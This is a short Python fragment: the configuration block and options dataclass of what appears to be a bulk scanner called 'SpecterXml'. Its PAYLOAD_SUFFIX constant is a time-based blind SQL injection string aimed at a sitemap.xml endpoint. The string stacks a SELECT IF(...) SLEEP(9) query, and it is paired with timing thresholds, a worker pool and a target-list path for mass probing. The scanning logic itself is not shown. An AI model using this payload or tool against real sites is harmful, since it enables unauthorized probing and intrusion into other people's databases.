from dataclasses import dataclass

# ---------- CONFIG ----------
DEFAULT_TIMEOUT = 10
DEFAULT_WORKERS = 12
SKIP_THRESHOLD = 3.0
REPORT_THRESHOLD = 8.0
PAYLOAD_SUFFIX = "/sitemap.xml?offset=1;SELECT%20IF((8303%3E8302),SLEEP(9),2356)#"
USER_AGENT = "SpecterXml/1.0"
# ---------- END CONFIG ----------


@dataclass
class ScanOptions:
    # Validated values handed over by the command-line layer
    list_path: str
    output_path: str
    workers: int = DEFAULT_WORKERS
    silent: bool = False
    verbose: bool = False
